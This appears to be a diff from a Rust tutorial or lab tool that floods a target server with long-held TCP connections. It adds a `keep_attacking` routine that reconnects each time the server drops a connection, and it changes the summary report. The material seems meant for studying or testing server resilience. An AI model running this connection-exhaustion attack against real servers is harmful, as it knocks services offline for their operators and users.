@@ -42,15 +42,16 @@ fn main() {
     let deadline = Instant::now() + options.duration;
     let mut clients = Vec::new();
     for (stream, opened) in streams {
-        let (mode, interval, head) = (options.mode, options.interval, target.head());
+        let (addr, mode, interval, head) =
+            (target.addr, options.mode, options.interval, target.head());
         clients.push(thread::spawn(move || {
-            hold(stream, opened, deadline, mode, interval, &head)
+            keep_attacking(stream, opened, addr, deadline, mode, interval, &head)
         }));
     }
-    let ends: Vec<End> = clients
-        .into_iter()
-        .map(|client| client.join().expect("a client thread panicked"))
-        .collect();
+    let mut ends = Vec::new();
+    for client in clients {
+        ends.extend(client.join().expect("a client thread panicked"));
+    }
     report(&ends);
 }
 // ANCHOR_END: main
@@ -81,11 +82,45 @@ enum End {
     Held,
     /// The server closed it, `after` it was opened, having sent `answer`.
     Closed { after: Duration, answer: Vec<u8> },
-    /// The server reset it (or it failed in another way, named by `kind`).
+    /// The server reset it, or it (or connecting again) failed in another
+    /// way, named by `kind`.
     Failed {
         after: Duration,
         kind: io::ErrorKind,
     },
+}
+
+/// One client of the attack: it holds its connection until `deadline`,
+/// and each time the server ends it, opens another, as an attacker would.
+fn keep_attacking(
+    mut stream: TcpStream,
+    mut opened: Instant,
+    addr: SocketAddr,
+    deadline: Instant,
+    mode: Mode,
+    interval: Duration,
+    head: &str,
+) -> Vec<End> {
+    let mut ends = Vec::new();
+    loop {
+        let end = hold(stream, opened, deadline, mode, interval, head);
+        let held = matches!(end, End::Held);
+        ends.push(end);
+        if held || Instant::now() >= deadline {
+            return ends;
+        }
+        match TcpStream::connect(addr) {
+            Ok(next) => (stream, opened) = (next, Instant::now()),
+            // The server is gone, or refuses: this client stops.
+            Err(err) => {
+                ends.push(End::Failed {
+                    after: Duration::ZERO,
+                    kind: err.kind(),
+                });
+                return ends;
+            }
+        }
+    }
 }
 
 /// Holds one connection until `deadline`, or until the server ends it.
@@ -188,8 +223,9 @@ fn report(ends: &[End]) {
         }
     }
     println!(
-        "connections: {held} held to the end, {closed} closed by the server, \
-         {reset} reset, {other} failed otherwise"
+        "connections: {} in all, {held} held to the end, {closed} closed by the server, \
+         {reset} reset, {other} failed otherwise",
+        ends.len()
     );
     if answers.is_empty() {
         println!("answers: none");
